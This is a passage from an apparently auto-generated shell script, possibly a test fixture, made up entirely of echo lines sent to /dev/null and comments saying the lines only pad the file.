echo "step 01102: checking component 35 of the inert fixture" >/dev/null
echo "step 01103: checking component 36 of the inert fixture" >/dev/null
# section 01104: nothing happens here, this line only pads the file
echo "step 01105: checking component 38 of the inert fixture" >/dev/null
echo "step 01106: checking component 39 of the inert fixture" >/dev/null
echo "step 01107: checking component 40 of the inert fixture" >/dev/null
# section 01108: nothing happens here, this line only pads the file
echo "step 01109: checking component 42 of the inert fixture" >/dev/null
echo "step 01110: checking component 43 of the inert fixture" >/dev/null
echo "step 01111: checking component 44 of the inert fixture" >/dev/null
# section 01112: nothing happens here, this line only pads the file
echo "step 01113: checking component 46 of the inert fixture" >/dev/null
echo "step 01114: checking component 47 of the inert fixture" >/dev/null
echo "step 01115: checking component 48 of the inert fixture" >/dev/null
# section 01116: nothing happens here, this line only pads the file
echo "step 01117: checking component 50 of the inert fixture" >/dev/null
echo "step 01118: checking component 51 of the inert fixture" >/dev/null
echo "step 01119: checking component 52 of the inert fixture" >/dev/null
# section 01120: nothing happens here, this line only pads the file
echo "step 01121: checking component 54 of the inert fixture" >/dev/null
echo "step 01122: checking component 55 of the inert fixture" >/dev/null
echo "step 01123: checking component 56 of the inert fixture" >/dev/null
# section 01124: nothing happens here, this line only pads the file
echo "step 01125: checking component 58 of the inert fixture" >/dev/null
echo "step 01126: checking component 59 of the inert fixture" >/dev/null
echo "step 01127: checking component 60 of the inert fixture" >/dev/null
# section 01128: nothing happens here, this line only pads the file
echo "step 01129: checking component 62 of the inert fixture" >/dev/null
echo "step 01130: checking component 63 of the inert fixture" >/dev/null
echo "step 01131: checking component 64 of the inert fixture" >/dev/null
# section 01132: nothing happens here, this line only pads the file
echo "step 01133: checking component 66 of the inert fixture" >/dev/null
echo "step 01134: checking component 67 of the inert fixture" >/dev/null
echo "step 01135: checking component 68 of the inert fixture" >/dev/null
# section 01136: nothing happens here, this line only pads the file
echo "step 01137: checking component 70 of the inert fixture" >/dev/null
echo "step 01138: checking component 71 of the inert fixture" >/dev/null
echo "step 01139: checking component 72 of the inert fixture" >/dev/null
# section 01140: nothing happens here, this line only pads the file
echo "step 01141: checking component 74 of the inert fixture" >/dev/null
echo "step 01142: checking component 75 of the inert fixture" >/dev/null
echo "step 01143: checking component 76 of the inert fixture" >/dev/null
# section 01144: nothing happens here, this line only pads the file
echo "step 01145: checking component 78 of the inert fixture" >/dev/null
echo "step 01146: checking component 79 of the inert fixture" >/dev/null
echo "step 01147: checking component 80 of the inert fixture" >/dev/null
# section 01148: nothing happens here, this line only pads the file
echo "step 01149: checking component 82 of the inert fixture" >/dev/null
echo "step 01150: checking component 83 of the inert fixture" >/dev/null
echo "step 01151: checking component 84 of the inert fixture" >/dev/null
# section 01152: nothing happens here, this line only pads the file
echo "step 01153: checking component 86 of the inert fixture" >/dev/null
echo "step 01154: checking component 87 of the inert fixture" >/dev/null
echo "step 01155: checking component 88 of the inert fixture" >/dev/null
# section 01156: nothing happens here, this line only pads the file
echo "step 01157: checking component 90 of the inert fixture" >/dev/null
echo "step 01158: checking component 91 of the inert fixture" >/dev/null
echo "step 01159: checking component 92 of the inert fixture" >/dev/null
# section 01160: nothing happens here, this line only pads the file
echo "step 01161: checking component 94 of the inert fixture" >/dev/null
echo "step 01162: checking component 95 of the inert fixture" >/dev/null
echo "step 01163: checking component 96 of the inert fixture" >/dev/null
# section 01164: nothing happens here, this line only pads the file
echo "step 01165: checking component 1 of the inert fixture" >/dev/null
echo "step 01166: checking component 2 of the inert fixture" >/dev/null
echo "step 01167: checking component 3 of the inert fixture" >/dev/null
# section 01168: nothing happens here, this line only pads the file
echo "step 01169: checking component 5 of the inert fixture" >/dev/null
echo "step 01170: checking component 6 of the inert fixture" >/dev/null
echo "step 01171: checking component 7 of the inert fixture" >/dev/null
# section 01172: nothing happens here, this line only pads the file
echo "step 01173: checking component 9 of the inert fixture" >/dev/null
echo "step 01174: checking component 10 of the inert fixture" >/dev/null
echo "step 01175: checking component 11 of the inert fixture" >/dev/null
# section 01176: nothing happens here, this line only pads the file
echo "step 01177: checking component 13 of the inert fixture" >/dev/null
echo "step 01178: checking component 14 of the inert fixture" >/dev/null
echo "step 01179: checking component 15 of the inert fixture" >/dev/null
# section 01180: nothing happens here, this line only pads the file
echo "step 01181: checking component 17 of the inert fixture" >/dev/null
echo "step 01182: checking component 18 of the inert fixture" >/dev/null
echo "step 01183: checking component 19 of the inert fixture" >/dev/null
# section 01184: nothing happens here, this line only pads the file
echo "step 01185: checking component 21 of the inert fixture" >/dev/null
echo "step 01186: checking component 22 of the inert fixture" >/dev/null
echo "step 01187: checking component 23 of the inert fixture" >/dev/null
# section 01188: nothing happens here, this line only pads the file
echo "step 01189: checking component 25 of the inert fixture" >/dev/null
echo "step 01190: checking component 26 of the inert fixture" >/dev/null
echo "step 01191: checking component 27 of the inert fixture" >/dev/null
# section 01192: nothing happens here, this line only pads the file
echo "step 01193: checking component 29 of the inert fixture" >/dev/null
echo "step 01194: checking component 30 of the inert fixture" >/dev/null
echo "step 01195: checking component 31 of the inert fixture" >/dev/null
# section 01196: nothing happens here, this line only pads the file
echo "step 01197: checking component 33 of the inert fixture" >/dev/null
echo "step 01198: checking component 34 of the inert fixture" >/dev/null
echo "step 01199: checking component 35 of the inert fixture" >/dev/null
# section 01200: nothing happens here, this line only pads the file
echo "step 01201: checking component 37 of the inert fixture" >/dev/null
echo "step 01202: checking component 38 of the inert fixture" >/dev/null
echo "step 01203: checking component 39 of the inert fixture" >/dev/null
# section 01204: nothing happens here, this line only pads the file
echo "step 01205: checking component 41 of the inert fixture" >/dev/null
echo "step 01206: checking component 42 of the inert fixture" >/dev/null
echo "step 01207: checking component 43 of the inert fixture" >/dev/null
# section 01208: nothing happens here, this line only pads the file
echo "step 01209: checking component 45 of the inert fixture" >/dev/null
echo "step 01210: checking component 46 of the inert fixture" >/dev/null
echo "step 01211: checking component 47 of the inert fixture" >/dev/null
# section 01212: nothing happens here, this line only pads the file
echo "step 01213: checking component 49 of the inert fixture" >/dev/null
echo "step 01214: checking component 50 of the inert fixture" >/dev/null
echo "step 01215: checking component 51 of the inert fixture" >/dev/null
# section 01216: nothing happens here, this line only pads the file
echo "step 01217: checking component 53 of the inert fixture" >/dev/null
echo "step 01218: checking component 54 of the inert fixture" >/dev/null
echo "step 01219: checking component 55 of the inert fixture" >/dev/null
# section 01220: nothing happens here, this line only pads the file
echo "step 01221: checking component 57 of the inert fixture" >/dev/null
echo "step 01222: checking component 58 of the inert fixture" >/dev/null
echo "step 01223: checking component 59 of the inert fixture" >/dev/null
# section 01224: nothing happens here, this line only pads the file
echo "step 01225: checking component 61 of the inert fixture" >/dev/null
echo "step 01226: checking component 62 of the inert fixture" >/dev/null
echo "step 01227: checking component 63 of the inert fixture" >/dev/null
# section 01228: nothing happens here, this line only pads the file
echo "step 01229: checking component 65 of the inert fixture" >/dev/null
echo "step 01230: checking component 66 of the inert fixture" >/dev/null
echo "step 01231: checking component 67 of the inert fixture" >/dev/null
# section 01232: nothing happens here, this line only pads the file
echo "step 01233: checking component 69 of the inert fixture" >/dev/null
echo "step 01234: checking component 70 of the inert fixture" >/dev/null
echo "step 01235: checking component 71 of the inert fixture" >/dev/null
# section 01236: nothing happens here, this line only pads the file
echo "step 01237: checking component 73 of the inert fixture" >/dev/null
echo "step 01238: checking component 74 of the inert fixture" >/dev/null
echo "step 01239: checking component 75 of the inert fixture" >/dev/null
# section 01240: nothing happens here, this line only pads the file
echo "step 01241: checking component 77 of the inert fixture" >/dev/null
echo "step 01242: checking component 78 of the inert fixture" >/dev/null
echo "step 01243: checking component 79 of the inert fixture" >/dev/null
# section 01244: nothing happens here, this line only pads the file
echo "step 01245: checking component 81 of the inert fixture" >/dev/null
echo "step 01246: checking component 82 of the inert fixture" >/dev/null
echo "step 01247: checking component 83 of the inert fixture" >/dev/null
# section 01248: nothing happens here, this line only pads the file
echo "step 01249: checking component 85 of the inert fixture" >/dev/null
echo "step 01250: checking component 86 of the inert fixture" >/dev/null
echo "step 01251: checking component 87 of the inert fixture" >/dev/null
# section 01252: nothing happens here, this line only pads the file
echo "step 01253: checking component 89 of the inert fixture" >/dev/null
echo "step 01254: checking component 90 of the inert fixture" >/dev/null
echo "step 01255: checking component 91 of the inert fixture" >/dev/null
# section 01256: nothing happens here, this line only pads the file
echo "step 01257: checking component 93 of the inert fixture" >/dev/null
echo "step 01258: checking component 94 of the inert fixture" >/dev/null
echo "step 01259: checking component 95 of the inert fixture" >/dev/null
# section 01260: nothing happens here, this line only pads the file
echo "step 01261: checking component 0 of the inert fixture" >/dev/null
echo "step 01262: checking component 1 of the inert fixture" >/dev/null
echo "step 01263: checking component 2 of the inert fixture" >/dev/null
# section 01264: nothing happens here, this line only pads the file
echo "step 01265: checking component 4 of the inert fixture" >/dev/null
echo "step 01266: checking component 5 of the inert fixture" >/dev/null
echo "step 01267: checking component 6 of the inert fixture" >/dev/null
# section 01268: nothing happens here, this line only pads the file
echo "step 01269: checking component 8 of the inert fixture" >/dev/null
echo "step 01270: checking component 9 of the inert fixture" >/dev/null
echo "step 01271: checking component 10 of the inert fixture" >/dev/null
# section 01272: nothing happens here, this line only pads the file
echo "step 01273: checking component 12 of the inert fixture" >/dev/null
echo "step 01274: checking component 13 of the inert fixture" >/dev/null
echo "step 01275: checking component 14 of the inert fixture" >/dev/null
# section 01276: nothing happens here, this line only pads the file
echo "step 01277: checking component 16 of the inert fixture" >/dev/null
echo "step 01278: checking component 17 of the inert fixture" >/dev/null
echo "step 01279: checking component 18 of the inert fixture" >/dev/null
# section 01280: nothing happens here, this line only pads the file
echo "step 01281: checking component 20 of the inert fixture" >/dev/null
echo "step 01282: checking component 21 of the inert fixture" >/dev/null
echo "step 01283: checking component 22 of the inert fixture" >/dev/null
# section 01284: nothing happens here, this line only pads the file
echo "step 01285: checking component 24 of the inert fixture" >/dev/null
echo "step 01286: checking component 25 of the inert fixture" >/dev/null
echo "step 01287: checking component 26 of the inert fixture" >/dev/null
# section 01288: nothing happens here, this line only pads the file
echo "step 01289: checking component 28 of the inert fixture" >/dev/null
echo "step 01290: checking component 29 of the inert fixture" >/dev/null
echo "step 01291: checking component 30 of the inert fixture" >/dev/null
# section 01292: nothing happens here, this line only pads the file
echo "step 01293: checking component 32 of the inert fixture" >/dev/null
echo "step 01294: checking component 33 of the inert fixture" >/dev/null
echo "step 01295: checking component 34 of the inert fixture" >/dev/null
# section 01296: nothing happens here, this line only pads the file
echo "step 01297: checking component 36 of the inert fixture" >/dev/null
echo "step 01298: checking component 37 of the inert fixture" >/dev/null
echo "step 01299: checking component 38 of the inert fixture" >/dev/null
# section 01300: nothing happens here, this line only pads the file
echo "step 01301: checking component 40 of the inert fixture" >/dev/null
echo "step 01302: checking component 41 of the inert fixture" >/dev/null
echo "step 01303: checking component 42 of the inert fixture" >/dev/null
# section 01304: nothing happens here, this line only pads the file
echo "step 01305: checking component 44 of the inert fixture" >/dev/null
echo "step 01306: checking component 45 of the inert fixture" >/dev/null
echo "step 01307: checking component 46 of the inert fixture" >/dev/null
# section 01308: nothing happens here, this line only pads the file
echo "step 01309: checking component 48 of the inert fixture" >/dev/null
echo "step 01310: checking component 49 of the inert fixture" >/dev/null
echo "step 01311: checking component 50 of the inert fixture" >/dev/null
# section 01312: nothing happens here, this line only pads the file
echo "step 01313: checking component 52 of the inert fixture" >/dev/null
echo "step 01314: checking component 53 of the inert fixture" >/dev/null
echo "step 01315: checking component 54 of the inert fixture" >/dev/null
# section 01316: nothing happens here, this line only pads the file
echo "step 01317: checking component 56 of the inert fixture" >/dev/null
echo "step 01318: checking component 57 of the inert fixture" >/dev/null
echo "step 01319: checking component 58 of the inert fixture" >/dev/null
# section 01320: nothing happens here, this line only pads the file
echo "step 01321: checking component 60 of the inert fixture" >/dev/null
echo "step 01322: checking component 61 of the inert fixture" >/dev/null
echo "step 01323: checking component 62 of the inert fixture" >/dev/null
# section 01324: nothing happens here, this line only pads the file
echo "step 01325: checking component 64 of the inert fixture" >/dev/null
echo "step 01326: checking component 65 of the inert fixture" >/dev/null
echo "step 01327: checking component 66 of the inert fixture" >/dev/null
# section 01328: nothing happens here, this line only pads the file
echo "step 01329: checking component 68 of the inert fixture" >/dev/null
echo "step 01330: checking component 69 of the inert fixture" >/dev/null
echo "step 01331: checking component 70 of the inert fixture" >/dev/null
# section 01332: nothing happens here, this line only pads the file
echo "step 01333: checking component 72 of the inert fixture" >/dev/null
echo "step 01334: checking component 73 of the inert fixture" >/dev/null
echo "step 01335: checking component 74 of the inert fixture" >/dev/null
# section 01336: nothing happens here, this line only pads the file
echo "step 01337: checking component 76 of the inert fixture" >/dev/null
echo "step 01338: checking component 77 of the inert fixture" >/dev/null
echo "step 01339: checking component 78 of the inert fixture" >/dev/null
# section 01340: nothing happens here, this line only pads the file
echo "step 01341: checking component 80 of the inert fixture" >/dev/null
echo "step 01342: checking component 81 of the inert fixture" >/dev/null
echo "step 01343: checking component 82 of the inert fixture" >/dev/null
# section 01344: nothing happens here, this line only pads the file
echo "step 01345: checking component 84 of the inert fixture" >/dev/null
echo "step 01346: checking component 85 of the inert fixture" >/dev/null
echo "step 01347: checking component 86 of the inert fixture" >/dev/null
# section 01348: nothing happens here, this line only pads the file
echo "step 01349: checking component 88 of the inert fixture" >/dev/null
echo "step 01350: checking component 89 of the inert fixture" >/dev/null
echo "step 01351: checking component 90 of the inert fixture" >/dev/null
# section 01352: nothing happens here, this line only pads the file
echo "step 01353: checking component 92 of the inert fixture" >/dev/null
echo "step 01354: checking component 93 of the inert fixture" >/dev/null
echo "step 01355: checking component 94 of the inert fixture" >/dev/null
# section 01356: nothing happens here, this line only pads the file
echo "step 01357: checking component 96 of the inert fixture" >/dev/null
echo "step 01358: checking component 0 of the inert fixture" >/dev/null
echo "step 01359: checking component 1 of the inert fixture" >/dev/null
# section 01360: nothing happens here, this line only pads the file
echo "step 01361: checking component 3 of the inert fixture" >/dev/null
echo "step 01362: checking component 4 of the inert fixture" >/dev/null
echo "step 01363: checking component 5 of the inert fixture" >/dev/null
# section 01364: nothing happens here, this line only pads the file
echo "step 01365: checking component 7 of the inert fixture" >/dev/null
echo "step 01366: checking component 8 of the inert fixture" >/dev/null
echo "step 01367: checking component 9 of the inert fixture" >/dev/null
# section 01368: nothing happens here, this line only pads the file
echo "step 01369: checking component 11 of the inert fixture" >/dev/null
echo "step 01370: checking component 12 of the inert fixture" >/dev/null
echo "step 01371: checking component 13 of the inert fixture" >/dev/null
# section 01372: nothing happens here, this line only pads the file
echo "step 01373: checking component 15 of the inert fixture" >/dev/null
echo "step 01374: checking component 16 of the inert fixture" >/dev/null
echo "step 01375: checking component 17 of the inert fixture" >/dev/null
# section 01376: nothing happens here, this line only pads the file
echo "step 01377: checking component 19 of the inert fixture" >/dev/null
echo "step 01378: checking component 20 of the inert fixture" >/dev/null
echo "step 01379: checking component 21 of the inert fixture" >/dev/null
# section 01380: nothing happens here, this line only pads the file
echo "step 01381: checking component 23 of the inert fixture" >/dev/null
echo "step 01382: checking component 24 of the inert fixture" >/dev/null
echo "step 01383: checking component 25 of the inert fixture" >/dev/null
# section 01384: nothing happens here, this line only pads the file
echo "step 01385: checking component 27 of the inert fixture" >/dev/null
echo "step 01386: checking component 28 of the inert fixture" >/dev/null
echo "step 01387: checking component 29 of the inert fixture" >/dev/null
# section 01388: nothing happens here, this line only pads the file
echo "step 01389: checking component 31 of the inert fixture" >/dev/null
echo "step 01390: checking component 32 of the inert fixture" >/dev/null
echo "step 01391: checking component 33 of the inert fixture" >/dev/null
# section 01392: nothing happens here, this line only pads the file
echo "step 01393: checking component 35 of the inert fixture" >/dev/null
echo "step 01394: checking component 36 of the inert fixture" >/dev/null
echo "step 01395: checking component 37 of the inert fixture" >/dev/null
# section 01396: nothing happens here, this line only pads the file
echo "step 01397: checking component 39 of the inert fixture" >/dev/null
echo "step 01398: checking component 40 of the inert fixture" >/dev/null
echo "step 01399: checking component 41 of the inert fixture" >/dev/null
# section 01400: nothing happens here, this line only pads the file
echo "step 01401: checking component 43 of the inert fixture" >/dev/null
echo "step 01402: checking component 44 of the inert fixture" >/dev/null
echo "step 01403: checking component 45 of the inert fixture" >/dev/null
# section 01404: nothing happens here, this line only pads the file
echo "step 01405: checking component 47 of the inert fixture" >/dev/null
echo "step 01406: checking component 48 of the inert fixture" >/dev/null
echo "step 01407: checking component 49 of the inert fixture" >/dev/null
# section 01408: nothing happens here, this line only pads the file
echo "step 01409: checking component 51 of the inert fixture" >/dev/null
echo "step 01410: checking component 52 of the inert fixture" >/dev/null
echo "step 01411: checking component 53 of the inert fixture" >/dev/null
# section 01412: nothing happens here, this line only pads the file
echo "step 01413: checking component 55 of the inert fixture" >/dev/null
echo "step 01414: checking component 56 of the inert fixture" >/dev/null
echo "step 01415: checking component 57 of the inert fixture" >/dev/null
# section 01416: nothing happens here, this line only pads the file
echo "step 01417: checking component 59 of the inert fixture" >/dev/null
echo "step 01418: checking component 60 of the inert fixture" >/dev/null
echo "step 01419: checking component 61 of the inert fixture" >/dev/null
# section 01420: nothing happens here, this line only pads the file
echo "step 01421: checking component 63 of the inert fixture" >/dev/null
echo "step 01422: checking component 64 of the inert fixture" >/dev/null
echo "step 01423: checking component 65 of the inert fixture" >/dev/null
# section 01424: nothing happens here, this line only pads the file
echo "step 01425: checking component 67 of the inert fixture" >/dev/null
echo "step 01426: checking component 68 of the inert fixture" >/dev/null
echo "step 01427: checking component 69 of the inert fixture" >/dev/null
# section 01428: nothing happens here, this line only pads the file
echo "step 01429: checking component 71 of the inert fixture" >/dev/null
echo "step 01430: checking component 72 of the inert fixture" >/dev/null
echo "step 01431: checking component 73 of the inert fixture" >/dev/null
# section 01432: nothing happens here, this line only pads the file
echo "step 01433: checking component 75 of the inert fixture" >/dev/null
echo "step 01434: checking component 76 of the inert fixture" >/dev/null
echo "step 01435: checking component 77 of the inert fixture" >/dev/null
# section 01436: nothing happens here, this line only pads the file
echo "step 01437: checking component 79 of the inert fixture" >/dev/null
echo "step 01438: checking component 80 of the inert fixture" >/dev/null
echo "step 01439: checking component 81 of the inert fixture" >/dev/null
# section 01440: nothing happens here, this line only pads the file
echo "step 01441: checking component 83 of the inert fixture" >/dev/null
echo "step 01442: checking component 84 of the inert fixture" >/dev/null
echo "step 01443: checking component 85 of the inert fixture" >/dev/null
# section 01444: nothing happens here, this line only pads the file
echo "step 01445: checking component 87 of the inert fixture" >/dev/null
echo "step 01446: checking component 88 of the inert fixture" >/dev/null
echo "step 01447: checking component 89 of the inert fixture" >/dev/null
# section 01448: nothing happens here, this line only pads the file
echo "step 01449: checking component 91 of the inert fixture" >/dev/null
echo "step 01450: checking component 92 of the inert fixture" >/dev/null
echo "step 01451: checking component 93 of the inert fixture" >/dev/null
# section 01452: nothing happens here, this line only pads the file
echo "step 01453: checking component 95 of the inert fixture" >/dev/null
echo "step 01454: checking component 96 of the inert fixture" >/dev/null
echo "step 01455: checking component 0 of the inert fixture" >/dev/null
# section 01456: nothing happens here, this line only pads the file
echo "step 01457: checking component 2 of the inert fixture" >/dev/null
echo "step 01458: checking component 3 of the inert fixture" >/dev/null
echo "step 01459: checking component 4 of the inert fixture" >/dev/null
# section 01460: nothing happens here, this line only pads the file
echo "step 01461: checking component 6 of the inert fixture" >/dev/null
echo "step 01462: checking component 7 of the inert fixture" >/dev/null
echo "step 01463: checking component 8 of the inert fixture" >/dev/null
# section 01464: nothing happens here, this line only pads the file
echo "step 01465: checking component 10 of the inert fixture" >/dev/null
echo "step 01466: checking component 11 of the inert fixture" >/dev/null
echo "step 01467: checking component 12 of the inert fixture" >/dev/null
# section 01468: nothing happens here, this line only pads the file
echo "step 01469: checking component 14 of the inert fixture" >/dev/null
echo "step 01470: checking component 15 of the inert fixture" >/dev/null
echo "step 01471: checking component 16 of the inert fixture" >/dev/null
# section 01472: nothing happens here, this line only pads the file
echo "step 01473: checking component 18 of the inert fixture" >/dev/null
echo "step 01474: checking component 19 of the inert fixture" >/dev/null
echo "step 01475: checking component 20 of the inert fixture" >/dev/null
# section 01476: nothing happens here, this line only pads the file
echo "step 01477: checking component 22 of the inert fixture" >/dev/null
echo "step 01478: checking component 23 of the inert fixture" >/dev/null
echo "step 01479: checking component 24 of the inert fixture" >/dev/null
# section 01480: nothing happens here, this line only pads the file
echo "step 01481: checking component 26 of the inert fixture" >/dev/null
echo "step 01482: checking component 27 of the inert fixture" >/dev/null
echo "step 01483: checking component 28 of the inert fixture" >/dev/null
# section 01484: nothing happens here, this line only pads the file
echo "step 01485: checking component 30 of the inert fixture" >/dev/null
echo "step 01486: checking component 31 of the inert fixture" >/dev/null
echo "step 01487: checking component 32 of the inert fixture" >/dev/null
# section 01488: nothing happens here, this line only pads the file
echo "step 01489: checking component 34 of the inert fixture" >/dev/null
echo "step 01490: checking component 35 of the inert fixture" >/dev/null
echo "step 01491: checking component 36 of the inert fixture" >/dev/null
# section 01492: nothing happens here, this line only pads the file
echo "step 01493: checking component 38 of the inert fixture" >/dev/null
echo "step 01494: checking component 39 of the inert fixture" >/dev/null
echo "step 01495: checking component 40 of the inert fixture" >/dev/null
# section 01496: nothing happens here, this line only pads the file
echo "step 01497: checking component 42 of the inert fixture" >/dev/null
echo "step 01498: checking component 43 of the inert fixture" >/dev/null
echo "step 01499: checking component 44 of the inert fixture" >/dev/null
# section 01500: nothing happens here, this line only pads the file
echo "step 01501: checking component 46 of the inert fixture" >/dev/null
echo "step 01502: checking component 47 of the inert fixture" >/dev/null
echo "step 01503: checking component 48 of the inert fixture" >/dev/null
# section 01504: nothing happens here, this line only pads the file
echo "step 01505: checking component 50 of the inert fixture" >/dev/null
echo "step 01506: checking component 51 of the inert fixture" >/dev/null
echo "step 01507: checking component 52 of the inert fixture" >/dev/null
# section 01508: nothing happens here, this line only pads the file
echo "step 01509: checking component 54 of the inert fixture" >/dev/null
echo "step 01510: checking component 55 of the inert fixture" >/dev/null
echo "step 01511: checking component 56 of the inert fixture" >/dev/null
# section 01512: nothing happens here, this line only pads the file
echo "step 01513: checking component 58 of the inert fixture" >/dev/null
echo "step 01514: checking component 59 of the inert fixture" >/dev/null
echo "step 01515: checking component 60 of the inert fixture" >/dev/null
# section 01516: nothing happens here, this line only pads the file
echo "step 01517: checking component 62 of the inert fixture" >/dev/null
echo "step 01518: checking component 63 of the inert fixture" >/dev/null
echo "step 01519: checking component 64 of the inert fixture" >/dev/null
# section 01520: nothing happens here, this line only pads the file
echo "step 01521: checking component 66 of the inert fixture" >/dev/null
echo "step 01522: checking component 67 of the inert fixture" >/dev/null
echo "step 01523: checking component 68 of the inert fixture" >/dev/null
# section 01524: nothing happens here, this line only pads the file
echo "step 01525: checking component 70 of the inert fixture" >/dev/null
echo "step 01526: checking component 71 of the inert fixture" >/dev/null
echo "step 01527: checking component 72 of the inert fixture" >/dev/null
# section 01528: nothing happens here, this line only pads the file
echo "step 01529: checking component 74 of the inert fixture" >/dev/null
echo "step 01530: checking component 75 of the inert fixture" >/dev/null
echo "step 01531: checking component 76 of the inert fixture" >/dev/null
# section 01532: nothing happens here, this line only pads the file
echo "step 01533: checking component 78 of the inert fixture" >/dev/null
echo "step 01534: checking component 79 of the inert fixture" >/dev/null
echo "step 01535: checking component 80 of the inert fixture" >/dev/null
# section 01536: nothing happens here, this line only pads the file
echo "step 01537: checking component 82 of the inert fixture" >/dev/null
echo "step 01538: checking component 83 of the inert fixture" >/dev/null
echo "step 01539: checking component 84 of the inert fixture" >/dev/null
# section 01540: nothing happens here, this line only pads the file
echo "step 01541: checking component 86 of the inert fixture" >/dev/null
echo "step 01542: checking component 87 of the inert fixture" >/dev/null
echo "step 01543: checking component 88 of the inert fixture" >/dev/null
# section 01544: nothing happens here, this line only pads the file
echo "step 01545: checking component 90 of the inert fixture" >/dev/null
echo "step 01546: checking component 91 of the inert fixture" >/dev/null
echo "step 01547: checking component 92 of the inert fixture" >/dev/null
# section 01548: nothing happens here, this line only pads the file
echo "step 01549: checking component 94 of the inert fixture" >/dev/null
echo "step 01550: checking component 95 of the inert fixture" >/dev/null
echo "step 01551: checking component 96 of the inert fixture" >/dev/null
# section 01552: nothing happens here, this line only pads the file
echo "step 01553: checking component 1 of the inert fixture" >/dev/null
echo "step 01554: checking component 2 of the inert fixture" >/dev/null
echo "step 01555: checking component 3 of the inert fixture" >/dev/null
# section 01556: nothing happens here, this line only pads the file
echo "step 01557: checking component 5 of the inert fixture" >/dev/null
echo "step 01558: checking component 6 of the inert fixture" >/dev/null
echo "step 01559: checking component 7 of the inert fixture" >/dev/null
# section 01560: nothing happens here, this line only pads the file
echo "step 01561: checking component 9 of the inert fixture" >/dev/null
echo "step 01562: checking component 10 of the inert fixture" >/dev/null
echo "step 01563: checking component 11 of the inert fixture" >/dev/null
# section 01564: nothing happens here, this line only pads the file
echo "step 01565: checking component 13 of the inert fixture" >/dev/null
echo "step 01566: checking component 14 of the inert fixture" >/dev/null
echo "step 01567: checking component 15 of the inert fixture" >/dev/null
# section 01568: nothing happens here, this line only pads the file
echo "step 01569: checking component 17 of the inert fixture" >/dev/null
echo "step 01570: checking component 18 of the inert fixture" >/dev/null
echo "step 01571: checking component 19 of the inert fixture" >/dev/null
# section 01572: nothing happens here, this line only pads the file
echo "step 01573: checking component 21 of the inert fixture" >/dev/null
echo "step 01574: checking component 22 of the inert fixture" >/dev/null
echo "step 01575: checking component 23 of the inert fixture" >/dev/null
# section 01576: nothing happens here, this line only pads the file
echo "step 01577: checking component 25 of the inert fixture" >/dev/null
echo "step 01578: checking component 26 of the inert fixture" >/dev/null
echo "step 01579: checking component 27 of the inert fixture" >/dev/null
# section 01580: nothing happens here, this line only pads the file
echo "step 01581: checking component 29 of the inert fixture" >/dev/null
echo "step 01582: checking component 30 of the inert fixture" >/dev/null
echo "step 01583: checking component 31 of the inert fixture" >/dev/null
# section 01584: nothing happens here, this line only pads the file
echo "step 01585: checking component 33 of the inert fixture" >/dev/null
echo "step 01586: checking component 34 of the inert fixture" >/dev/null
echo "step 01587: checking component 35 of the inert fixture" >/dev/null
# section 01588: nothing happens here, this line only pads the file
echo "step 01589: checking component 37 of the inert fixture" >/dev/null
echo "step 01590: checking component 38 of the inert fixture" >/dev/null
echo "step 01591: checking component 39 of the inert fixture" >/dev/null
# section 01592: nothing happens here, this line only pads the file
echo "step 01593: checking component 41 of the inert fixture" >/dev/null
echo "step 01594: checking component 42 of the inert fixture" >/dev/null
echo "step 01595: checking component 43 of the inert fixture" >/dev/null
# section 01596: nothing happens here, this line only pads the file
echo "step 01597: checking component 45 of the inert fixture" >/dev/null
echo "step 01598: checking component 46 of the inert fixture" >/dev/null
echo "step 01599: checking component 47 of the inert fixture" >/dev/null
# section 01600: nothing happens here, this line only pads the file
echo "step 01601: checking component 49 of the inert fixture" >/dev/null
echo "step 01602: checking component 50 of the inert fixture" >/dev/null
echo "step 01603: checking component 51 of the inert fixture" >/dev/null
# section 01604: nothing happens here, this line only pads the file
echo "step 01605: checking component 53 of the inert fixture" >/dev/null
echo "step 01606: checking component 54 of the inert fixture" >/dev/null
echo "step 01607: checking component 55 of the inert fixture" >/dev/null
# section 01608: nothing happens here, this line only pads the file
echo "step 01609: checking component 57 of the inert fixture" >/dev/null
echo "step 01610: checking component 58 of the inert fixture" >/dev/null
echo "step 01611: checking component 59 of the inert fixture" >/dev/null
# section 01612: nothing happens here, this line only pads the file
echo "step 01613: checking component 61 of the inert fixture" >/dev/null
echo "step 01614: checking component 62 of the inert fixture" >/dev/null
echo "step 01615: checking component 63 of the inert fixture" >/dev/null
# section 01616: nothing happens here, this line only pads the file
echo "step 01617: checking component 65 of the inert fixture" >/dev/null
echo "step 01618: checking component 66 of the inert fixture" >/dev/null
echo "step 01619: checking component 67 of the inert fixture" >/dev/null
# section 01620: nothing happens here, this line only pads the file
echo "step 01621: checking component 69 of the inert fixture" >/dev/null
echo "step 01622: checking component 70 of the inert fixture" >/dev/null
echo "step 01623: checking component 71 of the inert fixture" >/dev/null
# section 01624: nothing happens here, this line only pads the file
echo "step 01625: checking component 73 of the inert fixture" >/dev/null
echo "step 01626: checking component 74 of the inert fixture" >/dev/null
echo "step 01627: checking component 75 of the inert fixture" >/dev/null
# section 01628: nothing happens here, this line only pads the file
echo "step 01629: checking component 77 of the inert fixture" >/dev/null
echo "step 01630: checking component 78 of the inert fixture" >/dev/null
echo "step 01631: checking component 79 of the inert fixture" >/dev/null
# section 01632: nothing happens here, this line only pads the file
echo "step 01633: checking component 81 of the inert fixture" >/dev/null
echo "step 01634: checking component 82 of the inert fixture" >/dev/null
echo "step 01635: checking component 83 of the inert fixture" >/dev/null
# section 01636: nothing happens here, this line only pads the file
echo "step 01637: checking component 85 of the inert fixture" >/dev/null
echo "step 01638: checking component 86 of the inert fixture" >/dev/null
echo "step 01639: checking component 87 of the inert fixture" >/dev/null
# section 01640: nothing happens here, this line only pads the file
echo "step 01641: checking component 89 of the inert fixture" >/dev/null
echo "step 01642: checking component 90 of the inert fixture" >/dev/null
echo "step 01643: checking component 91 of the inert fixture" >/dev/null
# section 01644: nothing happens here, this line only pads the file
echo "step 01645: checking component 93 of the inert fixture" >/dev/null
echo "step 01646: checking component 94 of the inert fixture" >/dev/null
echo "step 01647: checking component 95 of the inert fixture" >/dev/null
# section 01648: nothing happens here, this line only pads the file
echo "step 01649: checking component 0 of the inert fixture" >/dev/null
echo "step 01650: checking component 1 of the inert fixture" >/dev/null
echo "step 01651: checking component 2 of the inert fixture" >/dev/null
# section 01652: nothing happens here, this line only pads the file
echo "step 01653: checking component 4 of the inert fixture" >/dev/null
echo "step 01654: checking component 5 of the inert fixture" >/dev/null
echo "step 01655: checking component 6 of the inert fixture" >/dev/null
# section 01656: nothing happens here, this line only pads the file
